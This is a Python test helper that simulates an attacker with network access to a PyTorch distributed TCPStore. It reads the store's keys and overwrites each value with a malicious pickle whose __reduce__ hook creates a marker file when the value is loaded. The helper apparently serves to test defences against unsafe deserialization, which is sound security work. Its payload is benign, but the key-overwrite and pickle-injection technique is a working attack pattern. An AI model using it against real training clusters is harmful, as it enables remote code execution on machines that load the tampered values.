"""Someone who only reaches the port of a store: reads the keys, and overwrites each with a pickle that would run code.

Runs in: a process of the tests: ``python -m tests.programs.store_attacker PORT MARKER KEY...``. The pickle, if anybody
loads it, creates the empty file MARKER. The KEYs are for a torch whose stores can't list their own (2.9). Prints the keys
as JSON.
"""

from __future__ import annotations

import base64
import json
import pickle
import sys
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore


class Bomb:
    """Creates a file when unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return Path.touch, (Path(self.marker),)


def main(port: int, marker: str, known: list[str]) -> None:
    store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=30))
    keys = store.list_keys() if hasattr(store, "list_keys") else [key for key in known if store.check([key])]
    for key in keys:
        store.set(key, base64.b64encode(pickle.dumps(Bomb(marker))).decode())
    print(json.dumps(keys))


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], sys.argv[3:])
